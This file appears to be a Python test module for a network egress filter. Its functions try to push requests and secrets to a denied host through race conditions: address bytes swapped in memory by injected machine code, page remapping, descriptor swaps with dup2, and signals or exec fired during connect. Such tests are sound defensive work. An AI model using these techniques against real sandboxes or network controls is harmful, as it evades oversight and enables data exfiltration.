"""Time between check and use: the address, the descriptor, the memory and the thread change while somebody looks."""

from __future__ import annotations

import ctypes
import mmap
import os
import random
import signal
import socket
import threading
import time

import machine
import world
from attempts.calls import FASTOPEN, LIBC, UDP4, MsgHdr, message
from machine import sockaddr
from table import ATTEMPTS, attempt

ALLOWED = sockaddr(world.ALLOWED4, 80)
DENIED = sockaddr(world.DENIED4, 80)
SECONDS = 0.8


class Turning:
    """A thread that turns something back and forth while the block runs. Machine code: it needs no interpreter lock."""

    # loop: mov rax,[rsi]; mov [rdi],rax; mov rax,[rdx]; mov [rdi],rax; cmp dword [rcx],0; je loop; ret
    CODE = bytes.fromhex("488b06 488907 f390f390f390f390 488b02 488907 f390f390f390f390 833900 74df c3".replace(" ", ""))

    def __init__(self, at: int, one: bytes, other: bytes) -> None:
        self._values = [machine.page(value[:8].ljust(8, b"\0")) for value in (one, other)]
        self._stop = machine.page(b"\0" * 4)
        turn = ctypes.CFUNCTYPE(None, *[ctypes.c_void_p] * 4)(machine.page(self.CODE))
        self._thread = threading.Thread(target=lambda: turn(at, *self._values, self._stop), daemon=True)

    def __enter__(self) -> None:
        self._thread.start()

    def __exit__(self, *error: object) -> None:
        ctypes.memset(self._stop, 1, 1)
        self._thread.join()


def deadline():
    return time.monotonic() + SECONDS


def _connect_while_turning(aim, name, length=16, family=socket.AF_INET, most=400):
    until, count = deadline(), 0
    while time.monotonic() < until and count < most:
        count += 1
        time.sleep(random.random() / 10_000)  # out of step with whoever turns
        with socket.socket(family) as opened:
            opened.settimeout(0.3)
            if LIBC.connect(opened.fileno(), ctypes.c_void_p(name), length) == 0 or ctypes.get_errno() == 115:
                try:
                    if opened.getpeername()[0] != world.ALLOWED4:
                        opened.sendall(aim.request())
                        opened.recv(10)
                except OSError:
                    continue


X86 = "machine:x86_64"


@attempt("races", X86, quick=True)
def address_in_memory(aim):
    socket.getaddrinfo("allowed.test", 80)
    name = machine.page(ALLOWED)
    with Turning(name, ALLOWED, DENIED):
        _connect_while_turning(aim, name)


@attempt("races", X86)
def address_in_shared_memory_of_a_child(aim):
    socket.getaddrinfo("allowed.test", 80)
    shared = mmap.mmap(-1, 4096)
    shared[:16] = ALLOWED
    child = os.fork()
    if child == 0:
        while True:
            shared[:16] = ALLOWED
            shared[:16] = DENIED
    try:
        _connect_while_turning(aim, ctypes.addressof(ctypes.c_char.from_buffer(shared)))
    finally:
        os.kill(child, signal.SIGKILL)
        os.waitpid(child, 0)


@attempt("races", X86)
def address_in_a_page_that_comes_and_goes(aim):
    socket.getaddrinfo("allowed.test", 80)
    name = machine.page(ALLOWED, low=False)
    stop = threading.Event()

    def turn():
        while not stop.is_set():
            ctypes.memmove(name, DENIED, 16)
            LIBC.mprotect(ctypes.c_void_p(name), 4096, 0)
            LIBC.mprotect(ctypes.c_void_p(name), 4096, 3)
            ctypes.memmove(name, ALLOWED, 16)

    thread = threading.Thread(target=turn)
    thread.start()
    try:
        _connect_while_turning(aim, name)
    finally:
        stop.set()
        thread.join()


@attempt("races", X86)
def address_replaced_by_remapping(aim):
    socket.getaddrinfo("allowed.test", 80)
    mremap = LIBC.mremap
    mremap.restype = ctypes.c_void_p
    name = machine.page(ALLOWED, low=False)
    stop = threading.Event()

    def turn():
        while not stop.is_set():
            for content in (DENIED, ALLOWED):
                fresh = machine.page(content, low=False)
                mremap(ctypes.c_void_p(fresh), 4096, 4096, 3, ctypes.c_void_p(name))

    thread = threading.Thread(target=turn)
    thread.start()
    try:
        _connect_while_turning(aim, name)
    finally:
        stop.set()
        thread.join()


@attempt("races", X86)
def port_in_memory(aim):
    """The address stays denied for one port and open for another."""
    socket.getaddrinfo("narrow.test", world.TLS_ALTERNATE)
    good, bad = sockaddr(world.NARROW4, world.TLS_ALTERNATE), sockaddr(world.NARROW4, world.ALTERNATE)
    name = machine.page(good)
    until = deadline()
    with Turning(name, good, bad):
        while time.monotonic() < until:
            with socket.socket() as opened:
                opened.settimeout(0.3)
                if LIBC.connect(opened.fileno(), ctypes.c_void_p(name), 16) == 0 or ctypes.get_errno() == 115:
                    try:
                        if opened.getpeername()[1] == world.ALTERNATE:
                            opened.sendall(aim.request())
                            opened.recv(10)
                    except OSError:
                        continue


@attempt("races", X86)
def address_under_sendto(aim):
    """With Fast Open a sendto is a connect."""
    socket.getaddrinfo("allowed.test", 80)
    name = machine.page(ALLOWED)
    until = deadline()
    with Turning(name, ALLOWED, DENIED):
        while time.monotonic() < until:
            with socket.socket() as opened:
                opened.settimeout(0.3)
                request = aim.request()
                LIBC.sendto(opened.fileno(), request, len(request), FASTOPEN, ctypes.c_void_p(name), 16)


@attempt("races", X86)
def address_under_a_datagram(aim):
    socket.getaddrinfo("allowed.test", 80)
    good = sockaddr(world.ALLOWED4, world.UDP)
    name = machine.page(good)
    until = deadline()
    with Turning(name, good, UDP4), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as opened:
        while time.monotonic() < until:
            LIBC.sendto(opened.fileno(), aim.secret, len(aim.secret), 0, ctypes.c_void_p(name), 16)


@attempt("races", X86)
def name_pointer_of_a_message(aim):
    good, _one = message(sockaddr(world.ALLOWED4, world.UDP), aim.secret)
    bad, _two = message(UDP4, aim.secret)
    at = machine.page(bytes(good))
    until = deadline()
    with Turning(at, bytes(good)[:8], bytes(bad)[:8]), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as opened:
        while time.monotonic() < until:
            LIBC.sendmsg(opened.fileno(), ctypes.c_void_p(at), 0)


@attempt("races", X86)
def length_of_a_message_name(aim):
    """Without a length there is no address to judge."""
    header, _keep = message(UDP4, aim.secret)
    at = machine.page(bytes(header))
    offset = MsgHdr.namelen.offset
    until = deadline()
    with (
        Turning(at + offset, b"\0" * 8, bytes(header)[offset : offset + 8]),
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as opened,
    ):
        while time.monotonic() < until:
            LIBC.sendmsg(opened.fileno(), ctypes.c_void_p(at), 0)


def _flip_descriptors(first, second, number, stop):
    while not stop.is_set():
        os.dup2(first, number)
        os.dup2(second, number)


def _with_flipping(first, second, act):
    number = os.dup(first.fileno())
    stop = threading.Event()
    thread = threading.Thread(target=_flip_descriptors, args=(first.fileno(), second.fileno(), number, stop))
    thread.start()
    try:
        until = deadline()
        while time.monotonic() < until:
            act(number)
    finally:
        stop.set()
        thread.join()
        os.close(number)


@attempt("races")
def descriptor_between_tcp_and_udp(aim):
    tcp, udp = socket.socket(), socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    _with_flipping(tcp, udp, lambda fd: LIBC.sendto(fd, aim.secret, len(aim.secret), 0, UDP4, 16))


@attempt("races")
def descriptor_between_tcp_and_udp_under_sendmsg(aim):
    tcp, udp = socket.socket(), socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    header, _keep = message(UDP4, aim.secret)
    _with_flipping(tcp, udp, lambda fd: LIBC.sendmsg(fd, ctypes.byref(header), 0))


@attempt("races")
def descriptor_between_unix_and_tcp(aim):
    tcp, unix = socket.socket(), socket.socket(socket.AF_UNIX)
    tcp.setblocking(False)

    def act(fd):
        if LIBC.connect(fd, DENIED, 16) == 0 or ctypes.get_errno() in {115, 106}:
            try:
                tcp.sendall(aim.request())
            except OSError:
                return

    _with_flipping(tcp, unix, act)


@attempt("races")
def descriptor_closed_while_connecting(aim):
    """The number is another socket's when the answer comes."""
    until = deadline()
    while time.monotonic() < until:
        one = socket.socket()
        number = one.detach()
        thread = threading.Thread(target=lambda fd=number: LIBC.connect(fd, DENIED, 16))
        thread.start()
        os.close(number)
        other = socket.socket()
        other.settimeout(0.05)
        thread.join()
        try:
            other.sendall(aim.request())
        except OSError:
            pass
        other.close()


@attempt("races")
def thread_that_ends_while_asked(aim):
    """A child is killed while its connect is judged; another one takes its place at once."""
    until = deadline()
    while time.monotonic() < until:
        child = os.fork()
        if child == 0:
            opened = socket.socket()
            opened.connect_ex((world.DENIED4, 80))
            try:
                opened.sendall(aim.request())
            finally:
                os._exit(0)
        time.sleep(0.0005)
        os.kill(child, signal.SIGKILL)
        os.waitpid(child, 0)
    opened = socket.socket()
    opened.connect((world.DENIED4, 80))
    opened.sendall(aim.request())


@attempt("races")
def signals_while_connecting(aim):
    """An interrupted call is started again."""
    before = signal.signal(signal.SIGALRM, lambda *_: None)
    signal.setitimer(signal.ITIMER_REAL, 0.0003, 0.0003)
    try:
        until = deadline()
        while time.monotonic() < until:
            with socket.socket() as opened:
                if LIBC.connect(opened.fileno(), DENIED, 16) == 0:
                    opened.sendall(aim.request())
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, before)


@attempt("races")
def many_at_once(aim):
    """Sixty threads, one of which may."""

    def one(number):
        to = (world.DENIED4, 80) if number % 2 else ("allowed.test", 80)
        for _ in range(10):
            try:
                with socket.create_connection(to, 1) as opened:
                    if number % 2:
                        opened.sendall(aim.request())
            except OSError:
                continue

    threads = [threading.Thread(target=one, args=(number,)) for number in range(60)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


@attempt("races")
def exec_while_connecting(aim):
    import sys

    code = f"import socket; s=socket.create_connection(('{world.DENIED4}', 80), 2);"
    code += f"s.sendall(b'GET /{aim.token} HTTP/1.0\\r\\n\\r\\n')"
    child = os.fork()
    if child == 0:
        threading.Thread(target=lambda: socket.socket().connect_ex((world.DENIED4, 80)), daemon=True).start()
        os.execv(sys.executable, [sys.executable, "-ISc", code])
    os.waitpid(child, 0)


@attempt("races")
def lookups_and_connects_of_both(aim):
    """The pins of an allowed name are fresh all the time while somebody else connects elsewhere."""
    stop = threading.Event()

    def look():
        while not stop.is_set():
            try:
                socket.getaddrinfo("shop.partner.test", 80)
            except OSError:
                continue

    thread = threading.Thread(target=look)
    thread.start()
    try:
        until = deadline()
        while time.monotonic() < until:
            with socket.socket() as opened:
                opened.settimeout(0.3)
                if opened.connect_ex((world.DENIED4, 80)) == 0:
                    opened.sendall(aim.request())
    finally:
        stop.set()
        thread.join()


_ = ATTEMPTS
